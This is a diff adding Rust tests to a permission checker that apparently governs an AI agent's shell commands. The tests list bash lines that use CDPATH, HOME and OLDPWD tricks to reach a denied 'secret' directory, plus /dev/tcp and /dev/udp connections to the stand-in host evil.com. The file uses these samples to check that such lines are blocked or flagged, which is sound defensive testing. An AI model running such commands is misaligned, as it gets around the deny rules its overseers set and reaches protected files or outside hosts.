@@ -206,6 +206,47 @@ fn a_path_that_cannot_be_located_is_asked() {
 }
 
 #[test]
+fn a_variable_of_the_line_leads_around_no_rule_for_paths() {
+    let rules = denying("Read(/home/ada/project/w/secret/**)");
+    for line in [
+        "CDPATH=/home/ada/project/w; cd secret; cat k",
+        "cd /home/ada/project; CDPATH=w cd secret && cat k",
+        "export CDPATH=w; cd secret; cat k",
+        "declare CDPATH=w; pushd secret; cat k",
+        "HOME=/home/ada/project/w; cat ~/secret/k",
+        "HOME=w; cd ~/secret; cat k",
+        "OLDPWD=/home/ada/project/w; cat ~-/secret/k",
+        "HOME=w; cat < ~/secret/k",
+        "HOME=w; cd; cat secret/k",
+    ] {
+        let input = json!({ "command": line });
+        check_input(&rules, &PermissionClass::GENERIC, input, Verdict::Ask);
+        check_words(&rules, &PermissionClass::BASH, &["bash", "-c", line], Verdict::Ask);
+    }
+    let harmless = json!({"command": "cd src; cat ~/notes"});
+    check_input(&rules, &PermissionClass::GENERIC, harmless, Verdict::Allow);
+}
+
+#[test]
+fn a_connection_of_bash_is_one_to_its_host() {
+    let rules = denying("WebFetch(domain:evil.com)");
+    for line in [
+        "exec 3<>/dev/tcp/evil.com/80",
+        "echo > /dev/tcp/evil.com/80",
+        "cat < \"/dev/udp/EVIL.com/80\"",
+        "sh -c 'echo >/dev/tcp/evil.com/1'",
+    ] {
+        let input = json!({ "command": line });
+        check_input(&rules, &PermissionClass::GENERIC, input, Verdict::Deny);
+        check_words(&rules, &PermissionClass::BASH, &["bash", "-c", line], Verdict::Deny);
+    }
+    let open = json!({"command": "echo > /dev/tcp/$HOST/80"});
+    check_input(&rules, &PermissionClass::GENERIC, open, Verdict::Ask);
+    let other = json!({"command": "echo > /dev/tcp/good.org/80"});
+    check_input(&rules, &PermissionClass::GENERIC, other, Verdict::Allow);
+}
+
+#[test]
 fn an_address_is_found_however_it_is_written() {
     let rules = denying("WebFetch(domain:evil.com)");
     let long = format!("http://evil.com/a#{}", "1".repeat(9000));
